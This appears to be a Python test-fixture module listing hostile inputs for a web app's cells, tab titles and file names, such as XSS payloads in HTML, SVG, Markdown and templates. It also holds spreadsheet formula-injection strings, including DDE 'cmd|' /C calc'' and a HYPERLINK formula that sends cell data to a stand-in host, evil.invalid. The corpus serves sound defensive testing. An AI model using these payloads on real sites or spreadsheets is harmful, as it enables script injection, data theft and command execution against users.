"""What a hostile cell may hold: scripts and Markdown that would run or phone home, and formulas.

Each script payload carries a mark of letters alone ("qaa", "qab", …: a person's name may hold no digit) by which it is told when it
runs: it calls sapatRan(mark), opens a dialog, or asks another origin for something.
"""

from __future__ import annotations

from string import ascii_lowercase as LETTERS

EVIL = "evil.invalid"
# {} is the mark. What needs a host asks EVIL, which no browser of a test may ask for anything.
_SCRIPTS = (
    # elements that run by themselves
    "<script>sapatRan('{}')</script>",
    "<ScRiPt>sapatRan('{}')</sCrIpT>",
    "<script src=//evil.invalid/{}.js></script>",
    "<script type=module>sapatRan('{}')</script>",
    "<img src=x onerror=sapatRan('{}')>",
    "<img src=x onerror=\"sapatRan('{}')\">",
    "<IMG SRC=x OnErRoR=sapatRan('{}')>",
    "<img/src=x/onerror=sapatRan('{}')>",
    "<img src=//evil.invalid/{}.png>",
    "<img srcset=//evil.invalid/{}.png>",
    "<image src=x onerror=sapatRan('{}')>",
    "<svg onload=sapatRan('{}')>",
    "<svg/onload=sapatRan('{}')>",
    "<svg><script>sapatRan('{}')</script></svg>",
    "<svg><animate onbegin=sapatRan('{}') attributeName=x dur=.s>",
    "<svg><set onbegin=sapatRan('{}')>",
    "<svg><a href=javascript:sapatRan('{}')>x</a></svg>",
    "<svg><use href=//evil.invalid/{}.svg#x>",
    "<svg><image href=//evil.invalid/{}.png>",
    "<math><mi//xlink:href=javascript:sapatRan('{}')>x",
    "<body onload=sapatRan('{}')>",
    "<iframe src=javascript:sapatRan('{}')></iframe>",
    "<iframe srcdoc=\"<script>parent.sapatRan('{}')</script>\">",
    "<iframe src=//evil.invalid/{}></iframe>",
    "<embed src=//evil.invalid/{}>",
    "<object data=//evil.invalid/{}></object>",
    "<object data=javascript:sapatRan('{}')>",
    "<video src=//evil.invalid/{} autoplay>",
    "<video><source onerror=sapatRan('{}')></video>",
    "<audio src=x onerror=sapatRan('{}')>",
    "<input autofocus onfocus=sapatRan('{}')>",
    "<select autofocus onfocus=sapatRan('{}')>",
    "<textarea autofocus onfocus=sapatRan('{}')>",
    "<details open ontoggle=sapatRan('{}')>",
    "<marquee onstart=sapatRan('{}')>x</marquee>",
    "<style>@import '//evil.invalid/{}.css';</style>",
    "<style>*{{background:url(//evil.invalid/{})}}</style>",
    "<link rel=stylesheet href=//evil.invalid/{}.css>",
    "<link rel=prefetch href=//evil.invalid/{}>",
    "<meta http-equiv=refresh content='.;url=//evil.invalid/{}'>",
    "<base href=//evil.invalid/{}/>",
    "<form action=//evil.invalid/{}><button autofocus>x</form>",
    "<button formaction=javascript:sapatRan('{}')>x</button>",
    "<isindex action=javascript:sapatRan('{}') type=image>",
    "<table background=//evil.invalid/{}.png>",
    '<div style="background:url(//evil.invalid/{})">x</div>',
    "<p style=animation:x onanimationstart=sapatRan('{}')>",
    "<template><script>sapatRan('{}')</script></template>",
    "<noscript><img src=x onerror=sapatRan('{}')></noscript>",
    "<x onclick=sapatRan('{}') tabindex=. autofocus onfocus=sapatRan('{}')>",
    # out of where the text may stand
    "\"><script>sapatRan('{}')</script>",
    "'><script>sapatRan('{}')</script>",
    "--><script>sapatRan('{}')</script>",
    "]]><script>sapatRan('{}')</script>",
    "</script><script>sapatRan('{}')</script>",
    "</style><script>sapatRan('{}')</script>",
    "</title><script>sapatRan('{}')</script>",
    "</textarea><script>sapatRan('{}')</script>",
    "</td></tr></table><script>sapatRan('{}')</script>",
    "\" onmouseover=\"sapatRan('{}')",
    "' onfocus='sapatRan(`{}`)' autofocus='",
    "\";sapatRan('{}');//",
    "';sapatRan('{}');//",
    "\\\";sapatRan('{}');//",
    "${{sapatRan('{}')}}",
    "{{{{sapatRan('{}')}}}}",
    "{{{{constructor.constructor('sapatRan(`{}`)')()}}}}",
    "[[${{sapatRan('{}')}}]]",
    "`${{sapatRan('{}')}}`",
    "javascript:sapatRan('{}')",
    "data:text/html,<script>sapatRan('{}')</script>",
    "&lt;script&gt;sapatRan('{}')&lt;/script&gt;",
    "%Cscript%Esapat Ran('{}')%C/script%E",
    "<<script>sapatRan('{}')//<</script>",
    "<scr<script>ipt>sapatRan('{}')</script>",
    "\uff1cscript\uff1esapatRan('{}')\uff1c/script\uff1e",
    # Markdown
    "[{}](javascript:sapatRan)",
    "[{}](JaVaScRiPt:sapatRan)",
    "[{}](&#x6a;avascript:sapatRan)",
    "[{}](data:text/html;base,PHN)",
    "[{}](//evil.invalid)",
    "[{}](https://evil.invalid)",
    "[{}]: https://evil.invalid",
    "![{}](https://evil.invalid/x.png)",
    "![{}](//evil.invalid/x.png)",
    "[![{}](//evil.invalid/x.png)](//evil.invalid)",
    "<https://evil.invalid/{}>",
    "https://evil.invalid/{}",
    "www.evil.invalid/{}",
    "{}@evil.invalid",
    "mailto:{}@evil.invalid",
    "# {}",
    "**{}**",
    "_{}_",
    "~~{}~~",
    "`{}`",
    "> {}",
    "- {}",
    "| {} | x |",
    "$\\href{{javascript:sapatRan}}{{{}}}$",
    "$$\\text{{{}}}$$",
    "$\\includegraphics{{//evil.invalid/{}}}$",
    ":red[{}]",
    ":red-background[{}]",
    ":blue-badge[{}]",
    ":small[{}]",
    ":material/home: {}",
    ":smile: {}",
    ":streamlit: {}",
    "[^{}]: x",
    "<{} -> x <- -- >=",
    "\u202e{}\u202c",
    "{}\u200b\ufeff:red[x]",
)


def mark(number: int) -> str:
    """0 → "qaa", 1 → "qab", …"""
    return "q" + LETTERS[number // 26] + LETTERS[number % 26]


SCRIPTS = tuple(text.format(*(mark(n),) * text.count("{}")) for n, text in enumerate(_SCRIPTS))
MARKS = tuple(mark(n) for n in range(len(SCRIPTS)))
# What may stand in the title of a tab, and in the name of a file.
TAB_TITLES = tuple(text for text in SCRIPTS if len(text) <= 31 and not set(text) & set("[]:*?/\\'"))
FILE_NAMES = tuple(text for text in SCRIPTS if "/" not in text and "\x00" not in text)

_BODIES = (
    "1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://evil.invalid/?x="&A1,"ok")', 'IMPORTXML("http://evil.invalid","//a")',
    'IMPORTDATA("http://evil.invalid")', 'IMAGE("http://evil.invalid/x.png")', 'WEBSERVICE("http://evil.invalid")', "SUM(A1:A9)",
    "DDE(\"soffice\";\"a\";\"b\")", "A1",
)  # fmt: skip
_STARTS = ("=", "+", "-", "@")
_BEFORE = (" ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\ufeff", "\u200b", '"', '""', "\u2003", "\u202f", "\u2060", " \t ", "\u200e")
_FULL_WIDTH = ("\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b")
FORMULAS = (
    *(start + body for start in _STARTS for body in _BODIES),
    *(before + "=1+1" for before in _BEFORE),
    *(sign + "1+SUM(A1)" for sign in _FULL_WIDTH),
    *(f"Asan{split}=1+1" for split in (",", ";", "\t", "|", "\n", "\r")),
    *(f'Asan"{split}"=1+1' for split in (",", ";", "\t")),
    "Asan, @SUM(A1)", "sep=,", ' sep =;', "=cmd|' /C notepad'!'A1'", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1", "--1", "=-1", "=(1)", "=\"a\"", "={1}", "=$A$1", "==1", "=\u20131",
)  # fmt: skip
# What stays as it is: numbers, ticks, and text that no program runs.
HARMLESS = (
    "7-А", "–", "-", "+", "−3,2", "+3,2", "-1.5", "-7", "+996700123456", "1e-5", "-1E5", "n = 25", "12 345", "2025-2026", "Ңая; Ө",
    "school_class+subject", "a@example.org", "01.02.2026", "«=1+1»", "2, 3, 4, 5, -", "", "'",
)  # fmt: skip
